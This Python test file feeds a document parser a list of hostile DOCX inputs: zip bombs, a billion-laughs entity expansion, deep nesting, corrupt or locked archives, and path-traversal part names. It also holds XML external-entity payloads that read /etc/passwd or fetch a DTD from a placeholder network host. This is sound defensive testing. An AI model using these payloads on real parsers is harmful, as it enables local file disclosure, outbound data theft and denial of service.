"""Hostile Word documents: bombs in archives and in XML, and locked or broken ones."""

import io
import zipfile
from typing import Final

from schemas.article import NoticeCode
from schemas.failure import FailureCode
from tests.parse.docxs import W, archive, document, docx, p, run, table
from tests.parse.hostile.case import Case

_SENTENCE: Final = "The mayor said on Monday that the bridge was safe."
_OLE: Final = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504)
_MEGABYTE: Final = 1_000_000
_FIELD: Final = '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'


def _plain() -> bytes:
    return docx(p(_SENTENCE))


def _loose(body: str) -> bytes:
    """A document that is stored, not packed, so that its limits are others than the archive's."""
    return docx(body, packing=zipfile.ZIP_STORED)


def _nested(opening: str, closing: str, levels: int) -> bytes:
    return docx(p(_SENTENCE) + opening * levels + closing * levels)


def _with_main(main: str | bytes) -> bytes:
    return docx("", parts={"word/document.xml": main})


def _entities(declarations: str, use: str) -> bytes:
    body = document(p(_SENTENCE) + f"<w:p><w:r><w:t>{use}</w:t></w:r></w:p>")
    head, rest = body.split("\n", 1)
    return _with_main(f"{head}<!DOCTYPE x [{declarations}]>{rest}")


def _laughs() -> bytes:
    levels = (f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10))
    return _entities('<!ENTITY a0 "ha">' + "".join(levels), "&a9;")


def _overlapping() -> bytes:
    """Two entries of the archive that share their bytes."""
    body = bytearray(_plain())
    first = body.index(b"PK\x01\x02")
    second = body.index(b"PK\x01\x02", first + 4)
    body[second + 42 : second + 46] = body[first + 42 : first + 46]
    return bytes(body)


def _locked_member() -> bytes:
    body = bytearray(_plain())
    place = 0
    while (place := body.find(b"PK\x01\x02", place)) >= 0:
        body[place + 8] |= 1
        place += 4
    return bytes(body)


def _false_checksum() -> bytes:
    held = io.BytesIO()
    with zipfile.ZipFile(held, "w", zipfile.ZIP_STORED) as packed:
        packed.writestr("word/document.xml", document(p(_SENTENCE)))
    return held.getvalue().replace(b"mayor", b"mason")


def _cut_main() -> bytes:
    return _with_main(document(p(_SENTENCE))[:-30])


def _without_main() -> bytes:
    return archive({"[Content_Types].xml": "<Types/>", "word/styles.xml": "<styles/>"})


CASES: Final = [
    Case(
        "part of DOCX that unpacks to 60 MB",
        "a.docx",
        lambda: _with_main(bytes(60 * _MEGABYTE)),
        FailureCode.TOO_LARGE,
    ),
    Case(
        "part of DOCX packed a thousand times",
        "a.docx",
        lambda: _with_main(b" " * 40 * _MEGABYTE),
        FailureCode.BOMB,
    ),
    Case("parts of DOCX that share their bytes", "a.docx", _overlapping, FailureCode.BOMB),
    Case("DOCX with entities that multiply", "a.docx", _laughs, FailureCode.CORRUPT),
    Case(
        "DOCX with an entity from a file",
        "a.docx",
        lambda: _entities('<!ENTITY x SYSTEM "file:///etc/passwd">', "&x;"),
        says=_SENTENCE,
    ),
    Case(
        "DOCX with an entity from the network",
        "a.docx",
        lambda: _entities('<!ENTITY x SYSTEM "http://203.0.113.1/x">', "&x;"),
        says=_SENTENCE,
    ),
    Case(
        "DOCX whose document type is elsewhere",
        "a.docx",
        lambda: _entities('<!ENTITY % x SYSTEM "http://203.0.113.1/x.dtd"> %x;', ""),
        says=_SENTENCE,
    ),
    Case(
        "DOCX with controls in controls, 5,000 levels deep",
        "a.docx",
        lambda: _nested("<w:sdt><w:sdtContent>", "</w:sdtContent></w:sdt>", 5000),
        FailureCode.CORRUPT,
    ),
    Case(
        "DOCX with tables in tables, 60 levels deep",
        "a.docx",
        lambda: docx(
            p(_SENTENCE) + "<w:tbl><w:tr><w:tc>" * 60 + p("in") + "</w:tc></w:tr></w:tbl>" * 60
        ),
        says=_SENTENCE,
    ),
    Case(
        "DOCX with 30,000 paragraphs of a letter",
        "a.docx",
        lambda: _loose(p(_SENTENCE) + p("a") * 30_000),
        says=_SENTENCE,
    ),
    Case(
        "DOCX of three million letters",
        "a.docx",
        lambda: _loose(p(_SENTENCE * 1000) * 70),
        FailureCode.TOO_LARGE,
    ),
    Case(
        "DOCX with one text of 11 MB",
        "a.docx",
        lambda: _loose(p(_SENTENCE * 220_000)),
        FailureCode.CORRUPT,
    ),
    Case(
        "DOCX with a table of 20,000 cells",
        "a.docx",
        lambda: _loose(p(_SENTENCE) + table([["a"] * 100] * 200)),
        says=_SENTENCE,
    ),
    Case(
        "DOCX with 50,000 attributes on an element",
        "a.docx",
        lambda: docx(
            f"<w:p {' '.join(f'a{n}={chr(34)}{chr(34)}' for n in range(50_000))}/>" + p(_SENTENCE)
        ),
        says=_SENTENCE,
    ),
    Case(
        "DOCX with 50,000 fields that never end",
        "a.docx",
        lambda: _loose(
            p(run(_SENTENCE) + '<w:r><w:fldChar w:fldCharType="begin"/></w:r>' * 50_000)
        ),
        says=_SENTENCE,
    ),
    Case(
        "DOCX with ends of what never began",
        "a.docx",
        lambda: docx(
            "<w:tc/><w:tr/>"
            + p('<w:r><w:fldChar w:fldCharType="end"/><w:instrText>x</w:instrText></w:r>')
            + p(_SENTENCE)
        ),
        says=_SENTENCE,
    ),
    Case(
        "styles of DOCX that rest on one another",
        "a.docx",
        lambda: docx(
            p(_SENTENCE, "A"),
            parts={
                "word/styles.xml": f'<w:styles xmlns:w="{W}">'
                '<w:style w:styleId="A"><w:basedOn w:val="B"/></w:style>'
                '<w:style w:styleId="B"><w:basedOn w:val="A"/></w:style></w:styles>'
            },
        ),
        says=_SENTENCE,
    ),
    Case(
        "DOCX whose notes are no XML",
        "a.docx",
        lambda: docx(
            p(run(_SENTENCE) + '<w:r><w:footnoteReference w:id="1"/></w:r>'),
            parts={"word/footnotes.xml": b"\x00"},
        ),
        notice=NoticeCode.TEXT_LOST,
        says=_SENTENCE,
    ),
    Case("DOCX cut off", "a.docx", lambda: _plain()[:-200], FailureCode.CORRUPT),
    Case("DOCX with something before it", "a.docx", lambda: b"PK\x03\x04" + bytes(26) + _plain()),
    Case("DOCX whose text is cut off", "a.docx", _cut_main, FailureCode.CORRUPT),
    Case("DOCX whose text is no XML", "a.docx", lambda: _with_main("x"), FailureCode.CORRUPT),
    Case("DOCX whose text is empty", "a.docx", lambda: _with_main(""), FailureCode.CORRUPT),
    Case("DOCX with a false checksum", "a.docx", _false_checksum, FailureCode.CORRUPT),
    Case("DOCX without its text", "a.docx", _without_main, FailureCode.CORRUPT),
    Case("DOCX without words", "a.docx", lambda: docx(p(run(""))), FailureCode.EMPTY),
    Case("DOCX whose members are locked", "a.docx", _locked_member, FailureCode.ENCRYPTED),
    Case(
        "document of Office that is locked",
        "a.docx",
        lambda: _OLE + "EncryptedPackage".encode("utf-16-le") + bytes(9999),
        FailureCode.ENCRYPTED,
    ),
    Case("old document of Office", "a.doc", lambda: _OLE + bytes(9999), FailureCode.UNSUPPORTED),
    Case(
        "parts of DOCX whose names lead out of it",
        "a.docx",
        lambda: docx(p(_SENTENCE), parts={"../../etc/passwd": "x", "/word/x.xml": "x"}),
        says=_SENTENCE,
    ),
    Case(
        "DOCX whose text lies outside of it",
        "a.docx",
        lambda: docx(
            p(_SENTENCE),
            parts={
                "_rels/.rels": '<R><R Type="/officeDocument" Target="../../../etc/passwd"/></R>'
            },
        ),
        FailureCode.CORRUPT,
    ),
    Case(
        "DOCX of 5,001 parts",
        "a.docx",
        lambda: docx(p(_SENTENCE), parts={f"word/media/{n}.png": b"" for n in range(5001)}),
        FailureCode.TOO_MANY,
    ),
]
